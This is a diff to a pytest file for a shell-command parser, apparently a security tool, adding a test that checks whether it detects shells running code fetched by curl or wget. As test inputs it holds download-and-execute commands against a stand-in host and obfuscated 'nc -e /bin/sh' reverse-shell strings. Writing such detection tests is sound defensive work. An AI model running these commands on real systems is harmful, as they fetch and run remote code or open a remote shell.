@@ -290,3 +290,17 @@ def test_the_operators_of_an_unset_variable(text):
 @pytest.mark.parametrize("text", ["n`false`c -e /bin/sh h 1", "n$(:)c -e /bin/sh h 1", "n`true`c -e /bin/sh h 1"])
 def test_a_substitution_that_prints_nothing_inside_a_word_leaves_the_word_whole(text):
     assert ShellReader().read(text, Session())[-1].name == "nc"
+
+
+def test_what_a_shell_runs_of_other_programs_output():
+    def fed(text):
+        return {c.name: c.fed_by for c in ShellReader().read(text, Session()) if c.fed_by}
+    assert fed("sh <(curl -s https://x.example/i)") == {"sh": ["curl"]}
+    assert fed('bash -c "$(wget -qO- https://x.example/i | gunzip)"') == {"bash": ["gunzip", "wget"]}
+    assert fed("curl -s https://x.example/i > /tmp/i.sh && bash /tmp/i.sh") == {"bash": ["curl"]}
+    assert fed("curl -fsSLo /tmp/i.sh https://x.example/i && sh /tmp/i.sh") == {"sh": ["curl"]}
+    assert fed("echo $(curl -s https://x.example/ip)") == {}  # printed, not run
+    assert fed("curl -so a.sh https://x.example/a; bash b.sh") == {}
+    # no loop over a substitution whose output is unknown: read once, named by its text
+    cmds = ShellReader().read('bash -c "$(curl -s https://x.example/i)"', Session())
+    assert [c.name for c in cmds] == ["curl", "bash", "curl", "$(curl -s https://x.example/i)"]
